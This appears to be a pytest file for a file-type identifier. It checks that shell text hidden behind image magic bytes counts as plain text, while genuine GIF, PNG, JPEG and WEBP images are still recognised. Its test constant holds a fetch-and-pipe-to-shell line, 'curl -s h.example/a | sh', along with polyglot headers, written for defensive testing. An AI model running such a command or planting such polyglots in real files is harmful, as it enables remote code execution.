"""Text behind the magic of a picture."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from gateway.extract.identify import identify

CODE = b"curl -s h.example/a | sh\n" * 4
PACKET = b"<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>" + b" " * 3000 + b"<?xpacket end='w'?>"


@pytest.mark.parametrize("head", [
    b"GIF89a=1;\r\n", b"GIF87a='x'\n", b"GIF89a/*\x01\x02*/=1;", b"GIF89a\n\n\n\n\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0\n",
    b"RIFF=01;WEBP=1\n", b"OTTO=1\n", b"OggS\n",
])
def test_text_is_no_picture(head):
    assert identify(head + CODE) == "text/plain"


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, kind)
    return out.getvalue()


@pytest.mark.parametrize(("kind", "media"), [("GIF", "image/gif"), ("PNG", "image/png"), ("JPEG", "image/jpeg"), ("WEBP", "image/webp")])
def test_pictures_stay_pictures(kind, media):
    data = picture(kind)
    assert identify(data) == identify(data[:len(data) * 3 // 4]) == identify(data + CODE * 200) == media


def test_a_picture_that_begins_with_what_is_said_of_it():
    data = picture("JPEG")
    said = b"http://ns.adobe.com/xap/1.0/\0" + PACKET
    assert identify(data[:2] + b"\xff\xe1" + (len(said) + 2).to_bytes(2, "big") + said + data[2:]) == "image/jpeg"


def test_a_picture_that_breaks_off_is_no_text():
    assert identify(b"\xff\xd8\xff\xe0\0\x10JFIF\0") == "image/jpeg"
    assert identify(b"GIF89a\1\0\1\0\x80\0\0") == "image/gif"
